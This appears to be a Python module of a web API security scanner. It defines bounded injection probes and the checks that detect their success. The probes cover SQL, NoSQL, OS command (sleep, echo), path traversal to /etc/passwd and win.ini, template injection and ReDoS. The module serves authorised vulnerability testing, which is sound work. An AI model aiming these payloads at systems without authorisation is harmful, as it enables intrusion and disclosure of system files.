"""Attack payloads for the scan checks, as data and small pure functions.

Conventions: a payload is the *decoded* value of one input (the HTTP client
percent-encodes it as usual); a suffix is appended to a valid value of that
input, so the request still reaches the code it tests. Each family that proves
by output comes with its ``*_hit`` function, which looks for what only a
successful injection produces (a product computed by the engine, a system
file's content), never for the payload itself, so an API that echoes its input
is not reported. Delays are bounded: every ``seconds`` must be in (0, 30].
"""

from __future__ import annotations

import functools
import importlib.resources
import math
import re
from typing import Final

__all__ = [
    "NOSQL_OPERATOR_PROBES",
    "SQL_ERROR_PROBES",
    "command_echo_hit",
    "command_echo_payloads",
    "command_time_payloads",
    "nosql_query_probes",
    "redos_inputs",
    "shadow_paths",
    "sql_boolean_pairs",
    "sql_time_payloads",
    "ssti_hit",
    "ssti_payloads",
    "traversal_hit",
    "traversal_payloads",
]

_MAX_DELAY = 30.0

# --------------------------------------------------------------------------- SQL
#: Characters that break out of a string or an expression: each should make a
#: vulnerable query fail with a database error (see ``detect.sql_error``).
SQL_ERROR_PROBES: Final[tuple[str, ...]] = ("'", '"', "`", "')", '")', "'))", "\\", "';")


def sql_boolean_pairs(value: str, *, widen: bool = False) -> list[tuple[str, str]]:
    """(true, false) pairs: ``value`` with a condition appended that holds, then one that does not.

    A vulnerable input answers the true variant like ``value`` itself and the
    false one differently. Contexts: single- and double-quoted strings (balanced,
    no comment needed), a string ending in a comment, a ``LIKE '%...%'`` pattern,
    and a number when ``value`` is one. ``widen`` adds ``OR`` variants, which
    match every row (they show injection when ``value`` matches nothing): never
    use them on operations that write or delete.
    """
    pairs = [
        (f"{value}' AND 'a'='a", f"{value}' AND 'a'='b"),
        (f'{value}" AND "a"="a', f'{value}" AND "a"="b'),
        (f"{value}' AND 1=1-- ", f"{value}' AND 1=2-- "),
        (f"{value}%' AND '%'='", f"{value}%' AND 'x'='"),
    ]
    numeric = re.fullmatch(r"-?\d+(?:\.\d+)?", value) is not None
    if numeric:
        pairs.append((f"{value} AND 1=1", f"{value} AND 1=2"))
    if widen:
        pairs += [
            (f"{value}' OR 'a'='a", f"{value}' AND 'a'='b"),
            (f"{value}' OR 1=1-- ", f"{value}' AND 1=2-- "),
        ]
        if numeric:
            pairs.append((f"{value} OR 1=1", f"{value} AND 1=2"))
    return pairs


def sql_time_payloads(seconds: float) -> list[str]:
    """Suffixes that make the database wait about ``seconds``: MySQL, PostgreSQL, MSSQL, SQLite.

    Each sleep sits in an uncorrelated subquery, run once per query rather
    than once per row, and leaves the value unchanged (string concatenation
    with an empty string, ``XOR 0``, ``+ 0``), so no other rows match and an
    UPDATE or DELETE touches only what it would have. In order: MySQL string
    and number, PostgreSQL string and number, SQL Server (stacked query) string
    and number, SQLite string and number. SQLite has no sleep: it hex-encodes
    ``100 * seconds`` random megabytes one at a time (about a second per 100
    on a current CPU core, 3 MB of memory), so its delay is only roughly
    ``seconds``; compare it with a zero-length run, not with a clock.
    """
    # S608 below: these build payloads to send, not queries this process runs
    s = f"{_delay(seconds):g}"
    wait = _hms(seconds)
    mysql = f"(SELECT 0 FROM (SELECT SLEEP({s}))apiward)"  # noqa: S608
    postgres = f"(SELECT '' FROM pg_sleep({s}))"  # noqa: S608
    rounds = max(1, round(100 * seconds))
    sqlite = (
        f"(WITH RECURSIVE apiward(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM apiward "  # noqa: S608
        f"LIMIT {rounds}) SELECT substr(sum(length(hex(randomblob(1000000)))),1,0) FROM apiward)"
    )
    return [
        f"'XOR{mysql}XOR'",
        f"-{mysql}",
        f"'||{postgres}||'",
        f"+(SELECT 0 FROM pg_sleep({s}))",  # noqa: S608
        f"'; WAITFOR DELAY '{wait}'-- ",
        f"; WAITFOR DELAY '{wait}'-- ",
        f"'||{sqlite}||'",
        f"+length({sqlite})",
    ]


# --------------------------------------------------------------------------- NoSQL
#: Operator objects to put where a JSON body expects a scalar (MongoDB-style
#: query operators): each matches (nearly) any stored value.
NOSQL_OPERATOR_PROBES: Final[tuple[dict[str, object], ...]] = (
    {"$ne": None},
    {"$ne": ""},
    {"$gt": ""},
    {"$regex": ".*"},
    {"$exists": True},
    {"$nin": []},
)


def nosql_query_probes(name: str) -> list[tuple[str, str]]:
    """Query-string forms of the operators for parameter ``name``: ``name[$ne]=x`` and so on.

    Parsers such as Express's ``qs`` and PHP turn them into operator objects.
    """
    return [
        (f"{name}[$ne]", "apiward-none"),
        (f"{name}[$gt]", ""),
        (f"{name}[$regex]", ".*"),
        (f"{name}[$exists]", "true"),
        (f"{name}[$nin][]", "apiward-none"),
    ]


# --------------------------------------------------------------------------- OS commands
_SEPARATORS = (";", "|", "&&", "||", "\n")


def command_time_payloads(seconds: float) -> list[str]:
    """Suffixes that run ``sleep`` (or ``ping -n``, on Windows) for about ``seconds``.

    POSIX shells: after ``;``, ``|``, ``&&``, ``||``, a newline, in backticks and
    in ``$()``, plus variants that close a single- or double-quoted argument.
    Windows ``cmd``: ``ping -n N+1 127.0.0.1`` (one ping a second, on the
    server's own loopback) after ``&``, ``|`` and ``&&``. Whole seconds: not
    every ``sleep`` takes fractions.
    """
    s = math.ceil(_delay(seconds))
    sleep = f"sleep {s}"
    ping = f"ping -n {s + 1} 127.0.0.1"
    return [
        *(f"{sep}{sleep}" for sep in _SEPARATORS),
        f";{sleep} #",
        f"`{sleep}`",
        f"$({sleep})",
        f"';{sleep};'",
        f'";{sleep};"',
        f"& {ping}",
        f"| {ping}",
        f"&& {ping}",
    ]


def command_echo_payloads(a: int, b: int) -> list[str]:
    """Suffixes that make the shell print the product ``a*b`` (see :func:`command_echo_hit`).

    POSIX: ``echo $((a*b))`` after each separator, and in substitutions (whose
    output becomes part of an argument, often echoed in the command's error) as
    ``x$((a*b))``, so that the product does not run into the digits of the
    argument it is glued to (``127.0.0.1x7006652``); Windows
    ``cmd``: ``set /a a*b``, which prints its result. The payload holds the
    expression, never the product.
    """
    _factors(a, b)
    echo = f"echo $(({a}*{b}))"
    glued = f"echo x$(({a}*{b}))"
    return [
        *(f"{sep}{echo}" for sep in _SEPARATORS),
        f"`{glued}`",
        f"$({glued})",
        f"';{echo};'",
        f'";{echo};"',
        f"& set /a {a}*{b}",
        f"| set /a {a}*{b}",
    ]


def command_echo_hit(text: str, a: int, b: int) -> str | None:
    """The excerpt of ``text`` holding the product ``a*b`` as a whole number, or None.

    The caller should also check that its normal answer does not hold it.
    """
    return _product(text, a, b)


# --------------------------------------------------------------------------- path traversal
def traversal_payloads() -> list[str]:
    """Relative and absolute paths to ``/etc/passwd`` and ``win.ini``, plain and disguised.

    ``../`` repeated 3 to 8 times (``..\\`` for Windows), then the same
    encoded once (``%2e%2e%2f``: found by an app that decodes again), twice
    (``%252e``), as ``..%2f``, as ``....//`` (left as ``../`` by a filter that
    removes ``../`` once), as Tomcat's ``..;/``; then absolute paths and a
    ``file://`` URL.
    """
    out: list[str] = []
    for depth in range(3, 9):
        out += [
            "../" * depth + "etc/passwd",
            "..\\" * depth + "windows\\win.ini",
            "../" * depth + "windows/win.ini",
            "%2e%2e%2f" * depth + "etc%2fpasswd",
            "%252e%252e%252f" * depth + "etc%252fpasswd",
            "..%2f" * depth + "etc%2fpasswd",
            "....//" * depth + "etc/passwd",
            "..;/" * depth + "etc/passwd",
        ]
    return [*out, "/etc/passwd", "C:\\Windows\\win.ini", "file:///etc/passwd"]


_PASSWD = re.compile(r"\broot:[^:\s]{0,20}:0:0:")
_WIN_INI = re.compile(
    r"; for 16-bit app support|\[(?:fonts|extensions|mci extensions|files)\]", re.IGNORECASE
)


def traversal_hit(text: str) -> str | None:
    """The excerpt of ``text`` that is ``/etc/passwd`` (root's line) or ``win.ini``.

    ``win.ini`` needs two of its marks (the 16-bit comment, ``[fonts]``,
    ``[extensions]``, ``[mci extensions]``, ``[files]``): one bracketed word
    alone is any INI file.
    """
    m = _PASSWD.search(text)
    if m:
        return text[m.start() : m.start() + 120]
    marks = list(_WIN_INI.finditer(text))
    if len({mark.group().lower() for mark in marks}) >= 2:
        return text[marks[0].start() : marks[0].start() + 120]
    return None


# --------------------------------------------------------------------------- templates
def ssti_payloads(a: int, b: int) -> list[str]:
    """Template expressions of ``a*b`` for the common engines (see :func:`ssti_hit`).

    ``{{a*b}}`` Jinja2/Twig/Nunjucks/Liquid-ish, ``${a*b}`` Freemarker/Mako/
    JSP EL/Spring, ``#{a*b}`` Pug/Ruby/JSF, ``<%= a*b %>`` ERB/EJS, ``{a*b}``
    Smarty, ``@(a*b)`` Razor, ``#set`` + ``$x`` Velocity, ``*{a*b}`` and
    ``[[${a*b}]]`` Thymeleaf, ``{{=a*b}}`` doT, ``%{a*b}`` OGNL. Handlebars and
    Mustache have no arithmetic: they show up as errors, not products.
    """
    _factors(a, b)
    e = f"{a}*{b}"
    return [
        f"{{{{{e}}}}}",
        f"${{{e}}}",
        f"#{{{e}}}",
        f"<%= {e} %>",
        f"{{{e}}}",
        f"@({e})",
        f"#set($apiward={e})${{apiward}}",
        f"*{{{e}}}",
        f"[[${{{e}}}]]",
        f"{{{{={e}}}}}",
        f"%{{{e}}}",
    ]


def ssti_hit(text: str, a: int, b: int) -> str | None:
    """The excerpt of ``text`` holding ``a*b`` as a whole number, or None.

    A reflected payload holds ``a*b`` as an expression, not its value, so it
    never matches. The caller should also check that its normal answer does not
    hold the product.
    """
    return _product(text, a, b)


def _product(text: str, a: int, b: int) -> str | None:
    _factors(a, b)
    m = re.search(rf"(?<!\d){a * b}(?!\d)", text)
    if m is None:
        return None
    return text[max(0, m.start() - 40) : m.end() + 40]


def _factors(a: int, b: int) -> None:
    # small factors make a product that turns up in any answer (a count, a year)
    if min(a, b) < 11:
        raise ValueError(f"factors must be at least 11, got {a} and {b}")


# --------------------------------------------------------------------------- ReDoS
def redos_inputs(n: int) -> list[str]:
    """Strings of about ``n`` characters that make backtracking regexes blow up.

    Each is a long run the pattern's nested or overlapping quantifiers can split
    in many ways, then a character that makes the match fail: ``(a+)+$`` and
    ``^(\\w+\\s?)*$`` (letters, then ``!``), ``(\\d+)*$`` (digits, then ``x``),
    ``\\s+$`` trimming (spaces, then a letter), evil e-mail validators (a long
    local part or domain, then ``!``), dotted names (``a.a.a...!``). Use about
    30 for exponential patterns, tens of thousands for quadratic ones.
    """
    if not 1 <= n <= 100_000:
        raise ValueError(f"n must be in 1..100000, got {n}")
    half = max(1, n // 2)
    return [
        "a" * n + "!",
        "0" * n + "x",
        "a" + " " * n + "a",
        "a" * n + "@a.a!",
        "a@" + "a" * n + "!",
        "a." * half + "!",
        "aA1-" * max(1, n // 4) + "!",
    ]


# --------------------------------------------------------------------------- shadow paths
@functools.cache
def _shadow_paths() -> tuple[str, ...]:
    text = importlib.resources.files("apiward.scan.data").joinpath("shadow-paths.txt")
    lines = (line.split("#", 1)[0].strip() for line in text.read_text("utf-8").splitlines())
    return tuple(dict.fromkeys(line for line in lines if line))


def shadow_paths() -> list[str]:
    """Paths often left exposed without being documented, from ``data/shadow-paths.txt``.

    Debug and admin consoles, framework endpoints (Spring actuator, Go pprof,
    Django/Rails/Symfony/Laravel debug pages), API docs and GraphQL, source and
    configuration files (``.git``, ``.env``), status pages, old API versions,
    test and backup copies. All safe to GET: nothing that dumps a heap, starts
    a profile or changes state. Each starts with ``/``; order is kept.
    """
    return list(_shadow_paths())


# --------------------------------------------------------------------------- helpers
def _delay(seconds: float) -> float:
    if not 0 < seconds <= _MAX_DELAY:
        raise ValueError(f"seconds must be in (0, {_MAX_DELAY:g}], got {seconds}")
    return seconds


def _hms(seconds: float) -> str:
    """SQL Server's WAITFOR DELAY time: hh:mm:ss.mmm."""
    millis = round(_delay(seconds) * 1000)
    return f"00:00:{millis // 1000:02d}.{millis % 1000:03d}"
